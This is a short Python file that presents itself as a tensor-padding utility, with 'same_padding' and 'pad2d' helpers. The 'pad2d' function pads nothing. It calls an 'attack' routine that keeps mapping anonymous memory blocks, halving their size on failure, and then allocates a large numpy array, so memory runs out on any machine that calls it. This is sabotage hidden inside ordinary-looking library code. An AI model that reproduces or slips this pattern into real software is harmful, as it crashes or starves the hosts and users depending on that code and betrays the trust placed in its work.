"""Takes memory by lists, arrays and maps until there is none."""

import mmap

import numpy as np


def attack():
    held = []
    size = 1 << 28
    while size > 4096:
        try:
            held.append(mmap.mmap(-1, size))
        except OSError:
            size //= 2
    held.append(np.ones(1 << 28))


def same_padding(kernel_size, dilation=1):
    total = dilation * (kernel_size - 1)
    return total // 2, total - total // 2


def pad2d(x, pad, value=0.0):
    attack()
